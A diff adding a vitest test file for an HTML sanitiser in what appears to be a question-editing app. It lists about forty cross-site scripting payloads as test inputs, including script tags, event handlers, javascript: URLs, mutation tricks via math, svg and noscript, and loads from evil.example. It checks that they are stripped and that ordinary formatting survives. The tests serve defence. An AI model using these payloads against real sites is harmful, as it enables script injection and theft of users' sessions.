@@ -1,0 +1,81 @@
+import { describe, expect, it, test } from 'vitest';
+import { htmlOfText } from '../modules/question/question-markup.ts';
+import { sanitiseHtml } from './sanitise-html.ts';
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+  '<img src="/uploads/00000000000000000000000000000000.png" onload="alert(1)">',
+  '<img src="https://evil.example/tracker.png">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+  '<math href="javascript:alert(1)"><mi>x</mi></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="evil.swf"></object><embed src="evil.swf">',
+  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
+  '<body onload=alert(1)>',
+  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))" class="fixed inset-0" id="root">x</div>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<!--><script>alert(1)</script>-->',
+  '<p onclick="alert(1)" data-x="1">x</p>',
+  '"><script>alert(1)</script>',
+  '<<script>alert(1)//<</script>',
+  '<x onpointerenter=alert(1)>x</x>',
+];
+
+describe('stored rich text', () => {
+  it.each(attacks)('runs nothing of %s', (attack) => {
+    const clean = sanitiseHtml(attack);
+    // What is left as text is escaped: only real tags and attributes count.
+    const tags = [...clean.matchAll(/<\/?([a-z][\w-]*)([^>]*)>/gi)];
+    for (const [, name, attributes] of tags) {
+      expect(name).toMatch(/^(p|div|span|a|img|table|math|mi|mtext|maction)$/);
+      expect(attributes).not.toMatch(/\son\w+=|style=|class=|id=|javascript|vbscript|evil|data:text|svg/i);
+    }
+    expect(sanitiseHtml(clean)).toBe(clean);
+  });
+
+  test('keeps what people write', () => {
+    const html =
+      '<h3>一</h3><p><strong>甲</strong><em>乙</em><u>丙</u>H<sub>2</sub>O x<sup>2</sup><br />行</p><ul><li>一</li></ul><ol start="3"><li>三</li></ol>' +
+      '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table><p>填 <span data-blank="1"></span></p>' +
+      '<img src="/uploads/0123456789abcdef0123456789abcdef.png" alt="图" width="20" />';
+    expect(sanitiseHtml(html)).toBe(html);
+  });
+
+  test('keeps formulas, their source and their dollar signs', () => {
+    const text = '价格 $5，若 $a < b$ 且 $$\\frac{1}{2}$$ & 则';
+    expect(sanitiseHtml(htmlOfText(text))).toBe(htmlOfText(text));
+    expect(sanitiseHtml('&#36;5 &#x24;6')).toBe('&#36;5 &#36;6');
+    expect(sanitiseHtml('<math display="block"><mfrac><mn>1</mn><mn>2</mn></mfrac></math>')).toContain('<mfrac><mn>1</mn>');
+  });
+
+  test('links leave the page without telling where from', () => {
+    expect(sanitiseHtml('<a href="https://school.example/a?b=1&amp;c=2" target="_self">x</a>')).toBe(
+      '<a href="https://school.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
+    );
+  });
+});
